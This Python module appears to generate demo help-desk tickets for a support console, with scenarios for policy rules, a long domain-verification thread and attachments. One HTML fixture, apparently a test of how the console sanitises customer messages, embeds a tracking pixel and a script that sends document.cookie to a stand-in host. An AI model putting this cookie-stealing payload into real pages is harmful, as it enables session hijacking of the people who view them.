"""Scenario tickets (lowest ids, ``external_id = demo:<name>``): one per policy rule and edge case."""

from __future__ import annotations

import random

from console.demo.files import tiny_pdf, tiny_png
from console.demo.people import (
    DAY,
    CustomerFactory,
    Person,
    Staff,
    account_fields,
    empty_account,
    user_row,
)
from console.demo.threads import Message, ThreadWriter, TicketSpec

HTML_RICH_TEXT = ("Hello,\n\nThe totals on my checkout do not match what I expect. Here is what I see:\n\n"
                  "Item | Expected | Shown\nCourse | CHF 290.00 | CHF 310.00\nTax | CHF 0.00 | CHF 20.00\n\n"
                  "My checkout: https://lambertacademy.example/checkout and the help page I read: "
                  "https://help.example/sales-tax\n\nThanks,\nVictor")
HTML_RICH_HTML = (
    '<div class="zd-comment" dir="auto"><p>Hello,</p>'
    "<p>The totals on my checkout do not match what I expect. <b>Here is what I see</b>:</p>"
    '<table border="1"><tr><th>Item</th><th>Expected</th><th>Shown</th></tr>'
    "<tr><td>Course</td><td>CHF 290.00</td><td>CHF 310.00</td></tr>"
    "<tr><td>Tax</td><td>CHF 0.00</td><td>CHF 20.00</td></tr></table>"
    '<p>My checkout: <a href="https://lambertacademy.example/checkout">lambertacademy.example/checkout</a> '
    'and the <a href="https://help.example/sales-tax" target="_blank">help page</a> I read.</p>'
    '<img src="https://tracker.example/pixel.gif" width="1" height="1" alt="">'
    "<script>document.location='https://tracker.example/steal?c='+document.cookie</script>"
    "<p>Thanks,<br>Victor</p></div>")
LONG_THREAD_CUSTOMER = (
    "It disconnected again this morning. Students were seeing an error page for about an hour.",
    "I checked the DNS records with my registrar and they look exactly like your guide says.",
    "Still happening. Is there anything in your logs on your side?",
    "Here is the time it dropped today: shortly after 9:00 my time. Nothing changed on my side.",
    "My registrar says the records have not been touched. This is costing me sign-ups.",
)
LONG_THREAD_AGENT = (
    "Thanks for the update. I have re-verified the domain on our side; could you tell me if it drops again?",
    "I can see the verification failing intermittently. I have passed the details to our engineers.",
    "Our engineers found a caching issue affecting a few domains and are deploying a fix. I will keep you posted.",
    "Could you check whether you have both an A record and a CNAME for the same host? Having both can cause this.",
    "The fix is live now. Please keep an eye on it for the next few days and let me know how it behaves.",
)
LONG_THREAD_NOTES = (
    "Engineering ticket opened for the intermittent domain verification failures.",
    "Customer is on Pro and teaches live classes; prioritise. Checked twice today, domain verified.",
)


class ScenarioWriter:
    """Creates each scenario's requester and conversation."""

    def __init__(self, rng: random.Random, writer: ThreadWriter, factory: CustomerFactory, staff: Staff,
                 anchor_ts: int):
        self.rng, self.writer, self.factory, self.staff, self.anchor_ts = rng, writer, factory, staff, anchor_ts

    def write_all(self, scenarios: list[dict]) -> dict[str, int]:
        """Write the given scenarios in order; returns ticket id by scenario name."""
        return {s["name"]: self.write(s) for s in scenarios}

    def requester(self, spec: dict) -> Person:
        factory = self.factory
        email = spec["email"]
        account = spec.get("account")
        fields = empty_account()
        if account:
            account_email = spec.get("account_email", email)
            fields = account_fields(account_email=account_email, anchor_ts=self.anchor_ts, **account)
            factory.usernames.add(account["username"])
            factory.emails.add(account_email.lower())
        factory.emails.add(email.lower())
        uid = factory.next_id
        factory.next_id += 1
        purchase = account["purchase_days_ago"] if account else 3
        created = self.anchor_ts - (purchase + 1) * DAY + 3600 * 9
        factory.rows.append(user_row(uid, spec["name"], email, "end-user", created, user_fields=fields,
                                     external_id=f"acct-{account['username']}" if account else None))
        return Person(uid, spec["name"], email)

    def agent_for(self, scenario: dict, group_id: int) -> Person:
        if scenario.get("assignee") == "agent":
            return self.staff.demo["agent"]
        others = [a for a in self.staff.members[group_id] if a != self.staff.demo["agent"].id]
        return self.staff.agents[others[0]]

    def write(self, scenario: dict) -> int:
        group_id = self.staff.group_ids[scenario["department"]]
        requester = self.requester(scenario["requester"])
        agent = self.agent_for(scenario, group_id)
        created_ts = self.anchor_ts - scenario["age_hours"] * 3600
        thread = self.thread(scenario, requester, agent, created_ts)
        spec = TicketSpec(subject=scenario["subject"], requester=requester, group_id=group_id,
                          status=scenario["status"], priority=scenario["priority"], tags=scenario["tags"],
                          assignee_id=agent.id if scenario.get("assignee") else None,
                          external_id=f"demo:{scenario['name']}", triage_agent_id=agent.id)
        return self.writer.add(spec, thread)

    def thread(self, scenario: dict, requester: Person, agent: Person, created_ts: int) -> list[Message]:
        messages = []
        ts = created_ts
        step = 40 * 60
        for item in scenario["thread"]:
            if item.get("special") == "html_rich":
                messages.append(Message(requester, HTML_RICH_TEXT, ts, True, html_body=HTML_RICH_HTML))
            elif item["from"] == "customer":
                body = f"Hello,\n\n{item['text']}\n\nThanks,\n{requester.first_name}"
                attachments = self.attachments(requester) if item.get("attachments") else []
                messages.append(Message(requester, body, ts, True, attachments=attachments))
            elif item["from"] == "agent":
                body = f"Hi {requester.first_name},\n\n{item['text']}\n\nKind regards,\n{agent.name}"
                messages.append(Message(agent, body, ts, False))
            else:
                messages.append(Message(agent, item["text"], ts, False, public=False))
            ts += step
        if scenario.get("special") == "long_thread":
            messages += self.long_thread(requester, agent, ts)
        return messages

    def long_thread(self, requester: Person, agent: Person, start_ts: int) -> list[Message]:
        """41 more comments over four weeks: customer and agent alternate, with a few internal notes."""
        room = self.anchor_ts - 3600 - start_ts
        count = 41
        messages = []
        for i in range(count):
            ts = start_ts + room * (i + 1) // (count + 1)
            if i % 10 == 4:
                messages.append(Message(agent, LONG_THREAD_NOTES[i % 2], ts, False, public=False))
            elif i % 2 == 0:
                text = LONG_THREAD_AGENT[(i // 2) % len(LONG_THREAD_AGENT)]
                body = f"Hi {requester.first_name},\n\n{text} (update {i // 2 + 1})\n\nKind regards,\n{agent.name}"
                messages.append(Message(agent, body, ts, False))
            else:
                text = LONG_THREAD_CUSTOMER[(i // 2) % len(LONG_THREAD_CUSTOMER)]
                messages.append(Message(requester, f"Hi,\n\n{text}\n\n{requester.first_name}", ts, True))
        return messages

    def attachments(self, requester: Person) -> list[tuple[str, str, bytes, str]]:
        invoice = tiny_pdf(f"Invoice INV-2041 for {requester.name}: NOK 499.00")
        return [("invoice-INV-2041.pdf", "application/pdf", invoice, self.content_token()),
                ("checkout-screenshot.png", "image/png", tiny_png(), self.content_token())]

    def content_token(self) -> str:
        """Unguessable without the seed; drawn from the seeded Random so the workspace stays reproducible."""
        return f"{self.rng.getrandbits(128):032x}"
